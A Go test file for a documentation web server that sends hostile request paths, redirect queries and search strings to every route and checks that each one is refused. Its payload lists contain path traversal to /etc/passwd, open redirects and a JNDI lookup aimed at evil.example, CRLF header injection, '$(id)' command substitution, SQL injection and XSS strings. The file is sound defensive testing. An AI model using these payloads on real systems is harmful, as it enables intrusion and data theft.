package server

import (
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"errdex/static"
)

// pathTricks lead out of a folder, to another host, or to a file of ours under another name, if somebody decodes them
// once too often, or not at all.
var pathTricks = []string{
	"..", "../", "/..", "../../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", ".%2e/.%2e/etc/passwd",
	"..%252f..%252fetc%252fpasswd", "%252e%252e%252f", "..%c0%af..%c0%afetc/passwd", "%c0%ae%c0%ae/", "..%e0%80%af", "%f0%80%80%af", "..%ef%bc%8f", "..%u2215", "..%5c..%5cwindows%5cwin.ini",
	`..\..\windows\win.ini`, `..%5C`, "....//", "..../..../", "..;/", ";/..", "..%00/", "%00", "%00.css", "x%00.html", "%0a", "%0d%0aSet-Cookie:%20a=b", "%0d%0aLocation:%20//evil.example",
	"//evil.example", "///evil.example", `/\evil.example`, `\\evil.example`, "%2f%2fevil.example", "%2fevil.example", "%5cevil.example", "/%5cevil.example", "/%09/evil.example", "https://evil.example", "https:evil.example",
	"@evil.example", "%40evil.example", ".evil.example", "javascript:alert(1)", ".", "./", "/.", "%2e", "%2e/", "/", "//", "%2f", "%20", "%09", "~", "~root", "*", "%2a", "?", "%3f", "%23", "%", "%25", "%ff", "%fe%ff", "%c3%28",
	"C:", "C:/", "C%3a%5c", "CON", "NUL", "file:///etc/passwd", ".git/config", ".env", "static.go", "index.html", "web.config", "../server.go", "%7b%7b7*7%7d%7d", "${jndi:ldap://evil.example}", "$(id)", "`id`", "|id",
	"rate-limit/", "rate-limit//", "rate-limit/.", "rate-limit/..", "rate-limit%2f", "rate-limit%00", "rate-limit.md/", "rate-limit.md.md", "rate-limit.md%00", "rate-limit.json.md", "rate-limit.png.md", ".md", ".json", ".png", "..md",
	"RATE-LIMIT", "rate%2dlimit", "429", "429.md", "%34%32%39", "rate_limit_error", "４２９", "rate‑limit", "ſtatic", "İ", strings.Repeat("../", 500), strings.Repeat("%2e%2e%2f", 500), strings.Repeat("a/", 2000), strings.Repeat("a", 8000),
}

// pathPrefixes are all routes that take a name, and some that do not.
func pathPrefixes() []string {
	css := static.URL("app.css")
	return []string{"/", "/static/", strings.TrimSuffix(css, "app.css"), css, "/errors/", "/errors/rate-limit", "/guides/", "/guides/rate-limits-429/check/", "/problems/", "/api/v1/articles/", "/api/v1/", "/search/"}
}

// TestHostilePathsOfAllRoutes sends some 1,500 paths as they stand, over a socket, since a client would tidy them up.
func TestHostilePathsOfAllRoutes(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	address := s.wire(t)
	for _, prefix := range pathPrefixes() {
		t.Run(prefix, func(t *testing.T) {
			t.Parallel()
			var requests strings.Builder
			var targets []string
			for _, trick := range pathTricks {
				if target := prefix + strings.ReplaceAll(trick, " ", "%20"); !strings.ContainsAny(target, "\x00\n") && wellFormed(target) {
					targets = append(targets, target)
					requests.WriteString(head("GET " + target + " HTTP/1.1"))
				}
			}
			got := exchange(t, address, requests.String())
			if len(got) != len(targets)+1 || len(targets) < 80 {
				t.Fatalf("%d answers to %d requests and one behind them", len(got), len(targets))
			}
			for i, target := range targets {
				checkHostile(t, target, got[i])
			}
		})
	}
	checkLacks(t, s.log.String(), "evil", "passwd", `"level":"ERROR"`)
}

// wellFormed is what net/http reads; it answers the rest with 400 and closes the connection, see TestRawRequests.
func wellFormed(target string) bool {
	_, err := url.ParseRequestURI(target)
	return err == nil
}

// checkHostile fails where a hostile target got what only a good one may have.
func checkHostile(t *testing.T, target string, got reply) {
	t.Helper()
	if got.status != 200 { // a page in the place of a picture has the headers of a page
		checkSecurityHeaders(t, "GET "+strings.TrimSuffix(target, ".png"), got.header)
	}
	switch {
	case got.status == 200:
		if !slices.Contains([]string{static.URL("app.css"), "/", "/errors/rate-limit", "/errors/rate-limit.md", "/errors/rate-limit.json", "/errors/rate-limit.png"}, strings.TrimSuffix(target, "?")) {
			t.Errorf("GET %.200q = 200; body:\n%.200s", target, got.body)
		}
	case got.status == 308:
		location := got.header.Get("Location")
		if !strings.HasPrefix(location, "/errors/") && !strings.HasPrefix(location, "/guides/") && !strings.HasPrefix(location, articlesPath) || strings.Contains(location, "evil") {
			t.Errorf("GET %.200q leads to %q", target, location)
		}
	case got.status != 404 || got.header.Get("Set-Cookie") != "":
		t.Errorf("GET %.200q = %d, want 404 and no cookie", target, got.status)
	}
	checkLacks(t, got.body, "root:x:", "package static", "[core]")
}

// TestRedirectsStayHere asks for every redirect with a query that would lead elsewhere if it became a path, or end the
// header if it were decoded.
func TestRedirectsStayHere(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	address := s.wire(t)
	for _, target := range []string{"/429", "/RATE-LIMIT", "/errors/429", "/errors/rate_limit_error", "/errors/RATE-LIMIT", "/guides/rate-limit", "/errors/429.md", "/api/v1/articles/429",
		"/guides/rate-limits-429/check/1."} {
		for _, query := range []string{"", "?", "?limit=5", "?//evil.example", "?%0d%0aSet-Cookie:%20a=b", "?%0aX:%20y", "?\xff\xfe", "?é", `?"><script>`, "?next=//evil.example", "?a=1;b=2", "?" + strings.Repeat("a=1&", 2000)} {
			got := exchange(t, address, "GET "+target+query+" HTTP/1.1\r\nHost: evil.example\r\nX-Forwarded-Host: evil.example\r\nX-Original-URL: /evil\r\nX-Rewrite-URL: /evil\r\n\r\n")
			if len(got) != 2 || got[0].status != 308 {
				t.Errorf("GET %s%.40q = %s, want 308", target, query, statuses(got))
				continue
			}
			location, _, _ := strings.Cut(got[0].header.Get("Location"), "?")
			if !strings.HasPrefix(location, "/") || strings.HasPrefix(location, "//") || strings.Contains(location, "evil") || len(got[0].header.Values("Set-Cookie")) > 0 || got[0].header.Get("X") != "" {
				t.Errorf("GET %s%.40q leads to %q with %v", target, query, location, got[0].header)
			}
		}
	}
}

// TestHostileSearches searches for what FTS5 takes for operators, and for too much: each search is answered.
func TestHostileSearches(t *testing.T) {
	if testing.Short() {
		t.Skip("the race detector, for which -short is, makes the widest searches slower than they may be")
	}
	t.Parallel()
	s := newSite(t)
	queries := []string{`"`, `""`, `"""`, `'`, `' OR 1=1 --`, `*`, `**`, `"*`, `a*`, `*a`, `^`, `^rate`, `rate ^limit`, `-rate`, `+rate`, `rate + limit`, `NEAR`, `NEAR(`, `NEAR(rate limit, 5)`, `NEAR/2`, `rate NEAR limit`,
		`AND`, `OR`, `NOT`, `NOT rate`, `rate NOT`, `rate AND`, `rate OR OR limit`, `(`, `)`, `((((`, `(rate`, `rate)`, `(rate OR limit) AND (a`, `{title}: rate`, `{title names}: rate`, `title:rate`, `title : rate`, `- {title} : rate`, `rank:rate`, `search:x`,
		`rowid:1`, `:`, `{`, `}`, `{}`, `;`, `\`, `\"`, `%`, `_`, `?`, `?1`, `$1`, `@x`, `:x`, "a\x00b", "\x00", "\xff", "\x02\x03", "\u202e", "日本語", "🔥", `rate"; DROP TABLE articles; --`, `<script>`, `{{x}}`, "a\nb", "a\r\nSet-Cookie: a=b",
		repeat("word ", 2000), repeat("a", 12_000), repeat("a_", 6000), repeat(`"`, 12_000), repeat("(", 12_000), repeat("a* ", 4000), repeat("NEAR(a b) ", 1200), repeat("é", 2000)}
	for _, path := range []string{"/search?q=", "/api/v1/search?q="} {
		t.Run(path, func(t *testing.T) {
			t.Parallel()
			for _, query := range queries {
				if escaped := url.QueryEscape(query); len(escaped) < maxHeaderBytes-1000 {
					got := s.send(t, "GET", path+escaped, "")
					for end := time.Now().Add(wireTime); got.status == 503 && time.Now().Before(end); {
						got = s.send(t, "GET", path+escaped, "") // the machine is busy; a query that is slow itself is never answered
					}
					if got.status != 200 {
						t.Errorf("GET %s%.60q = %d, want 200", path, query, got.status)
					}
				}
			}
			// Beyond the headers' limit: the service never sees 10,000 words.
			if got := exchange(t, s.wire(t), head("GET "+path+repeat("word+", 10_000)+" HTTP/1.1")); got[0].status != 431 {
				t.Errorf("GET %s with 10,000 words = %s, want 431", path, statuses(got))
			}
		})
	}
	checkLacks(t, s.log.String(), "fts5", "syntax")
}
